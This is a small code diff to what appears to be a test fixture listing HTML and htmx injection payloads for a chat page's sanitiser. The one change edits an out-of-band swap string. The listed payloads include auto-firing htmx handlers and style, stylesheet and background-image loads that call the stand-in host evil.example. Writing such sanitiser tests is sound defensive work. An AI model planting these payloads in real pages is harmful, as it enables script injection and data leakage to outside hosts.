@@ -36,7 +36,7 @@ PAYLOADS = (
     f"<b hx-on:click='{RUN}' hx-on::load='{RUN}'>x</b>",
     '<b hx-get="/chat/x-3" hx-trigger="load">x</b>',
     '<b data-hx-get="https://evil.example/" data-hx-trigger="load">x</b>',
-    '<section id="live" hx-swap-oob="true">gone</section>',
+    '<section id="live" hx-swap-oob="true">x</section>',
     "<style>body{display:none} @import 'https://evil.example/a.css';</style>",
     '<link rel="stylesheet" href="https://evil.example/a.css">',
     '<p style="background:url(https://evil.example/b.png)">x</p>',
